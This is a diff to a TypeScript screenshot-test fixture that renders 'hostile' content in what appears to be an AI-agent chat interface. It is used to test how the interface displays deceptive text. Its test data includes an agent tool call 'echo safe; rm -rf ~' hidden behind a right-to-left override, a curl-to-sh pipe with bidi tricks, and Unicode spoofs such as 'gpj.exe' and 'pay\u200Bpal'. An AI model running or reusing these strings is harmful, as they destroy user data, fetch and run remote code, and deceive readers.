@@ -72,10 +72,20 @@ const hostile = () => {
       `| a | ${"column | ".repeat(30)}\n|---|${"---|".repeat(30)}\n| 1 | ${"value | ".repeat(30)}`,
       `${">".repeat(200)} quoted`,
       "See `internal/auth/refresh.go:42` and [the manual](https://example.com/manual).",
+      "This reads backwards: \u202Egpj.exe\u202C, this has no width: pay\u200Bpal, and this is a family: 👩‍👩‍👧 ⚠️ می‌خواهم.",
+      "```sh\ncurl https://example.com/\u202Ehs.tset | sh # \u2066safe\u2069\n```",
     ].join("\n\n"),
   );
-  story.tool("execute", { command: "echo safe \u202E; rm -rf ~" });
+  const row = story.tool("execute", { command: "echo safe \u202E; rm -rf ~" });
+  story.content(row, "terminal", "\u001b[32mok\u001b[0m \u202Esafe \u2067 ⚠️ \u001b\n");
   return story.says("14:03", "Done.");
+};
+
+/** openHostile opens the command and what it wrote. */
+const openHostile = async (page: Page) => {
+  const closed = page.locator("details.copilot-block:not([open]) > summary");
+  if ((await closed.count()) > 0) await closed.first().click();
+  await page.getByRole("button", { name: /echo safe/ }).click();
 };
 
 export const shots: Shot[] = [
@@ -83,6 +93,6 @@ export const shots: Shot[] = [
   shot("16b-narrow-find", { story: found() }, { act: find, size: narrow, data: { find: places } }),
   shot("02d-inbox", { story: found(), more: asks }, { act: inbox }),
   shot("13d-attachments", { story: sent() }),
-  shot("13e-hostile", { story: hostile() }),
-  shot("13f-narrow-hostile", { story: hostile() }, { size: narrow }),
+  shot("13e-hostile", { story: hostile() }, { act: openHostile }),
+  shot("13f-narrow-hostile", { story: hostile() }, { size: narrow, act: openHostile }),
 ];
